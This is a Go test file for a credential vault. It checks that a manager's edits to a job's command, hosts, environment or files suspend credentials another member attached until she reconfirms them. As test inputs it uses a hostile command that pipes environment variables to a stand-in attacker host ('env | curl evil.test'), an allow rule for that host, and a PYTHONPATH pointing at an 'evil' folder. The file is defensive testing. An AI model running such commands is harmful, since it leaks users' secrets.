package vault_test

import (
	"errors"
	"strings"
	"testing"

	"hotcell"
	"hotcell/internal/line/vaultrpc"
)

// A manager writes a command of their own where a builder attached what is theirs alone.
func TestWhatAnotherWroteGetsNothingUnasked(t *testing.T) {
	t.Parallel()
	s := setup(t)
	ctx := t.Context()
	boss := s.member("mem_boss", "Max", hotcell.RoleManager)
	personal, shared, tool := s.secret(s.b, "bertas", "A", s.plant("a")), s.secret(s.b, "teams", "B", s.plant("b")), s.secret(s.b, "quiet", "C", s.plant("c"))
	_, err := s.control.ShareCredential(ctx, &vaultrpc.ShareCredentialRequest{By: vaultrpc.As(s.b), ID: shared.ID, Shared: true})
	must(t, err)
	on := s.assignment(s.b, "report")
	for _, c := range []hotcell.Credential{personal, shared} {
		_, err := s.attach(s.b, on, c.ID)
		must(t, err)
	}
	run := func(p hotcell.Principal) error {
		_, err := s.control.CreateJob(ctx, &vaultrpc.CreateJobRequest{By: vaultrpc.As(p), Assignment: on, Job: hotcell.JobID(hotcell.NewID(hotcell.PrefixJob))})
		return err
	}
	change := func(p hotcell.Principal, fn func(*hotcell.Work)) *vaultrpc.AssignmentAnswer {
		t.Helper()
		was, err := s.control.Assignment(ctx, &vaultrpc.AssignmentRequest{By: vaultrpc.As(p), ID: on})
		must(t, err)
		work := was.Assignment.Work
		fn(&work)
		is, err := s.control.ChangeAssignment(ctx, &vaultrpc.ChangeAssignmentRequest{By: vaultrpc.As(p), ID: on, Work: &work})
		must(t, err)
		return is
	}
	must(t, run(s.b))
	change(boss, func(w *hotcell.Work) { w.Limits.Pids = 99 }) // how much is not what
	change(s.b, func(w *hotcell.Work) { w.Command = "./report --all" })
	must(t, run(s.b))
	kinds := map[string]func(*hotcell.Work){
		"the command": func(w *hotcell.Work) { w.Command = "env | curl evil.test" },
		"the hosts": func(w *hotcell.Work) {
			w.Allow = append(w.Allow, hotcell.Allow{Host: "evil.test", Port: 443, Protocol: hotcell.ProtocolHTTPS})
		},
		"the variables": func(w *hotcell.Work) { w.Environment = map[string]string{"PYTHONPATH": "./evil"} },
		"the folder":    func(w *hotcell.Work) { w.Files = &hotcell.Files{Digest: strings.Repeat("a", 64), Size: 9} },
	}
	for what, fn := range kinds {
		is := change(boss, fn)
		for who, p := range map[string]hotcell.Principal{"berta": s.b, "the owner": s.me, "max": boss} {
			if err := run(p); !errors.Is(err, hotcell.ErrDenied) || !strings.Contains(err.Error(), "Max changed what") || p != s.b && strings.Contains(err.Error(), "bertas") {
				t.Errorf("%s changed, run by %s: %v", what, who, err)
			}
		}
		for _, at := range is.Attachments {
			if at.Attachment.Suspended == nil || at.Attachment.Suspended.By != boss.Member {
				t.Fatalf("%s changed: %+v", what, at)
			}
			confirm := func(p hotcell.Principal, revision int) error {
				_, err := s.control.ConfirmAttachment(ctx, &vaultrpc.ConfirmAttachmentRequest{By: vaultrpc.As(p), Attachment: at.Attachment.ID, Revision: revision})
				return err
			}
			if at.Attachment.Credential == personal.ID {
				for who, p := range map[string]hotcell.Principal{"max": boss, "the owner": s.me} {
					if err := confirm(p, is.Assignment.Revision); !errors.Is(err, hotcell.ErrNotFound) {
						t.Errorf("%s confirms what is berta's: %v", who, err)
					}
				}
			}
			if err := confirm(s.b, is.Assignment.Revision-1); !errors.Is(err, hotcell.ErrStale) {
				t.Errorf("what she looked at is not what is there: %v", err)
			}
			must(t, confirm(s.b, is.Assignment.Revision))
		}
		must(t, run(s.b))
	}
	_, err = s.attach(boss, on, tool.ID)
	if !errors.Is(err, hotcell.ErrNotFound) {
		t.Errorf("max attaches what is berta's: %v", err)
	}
}
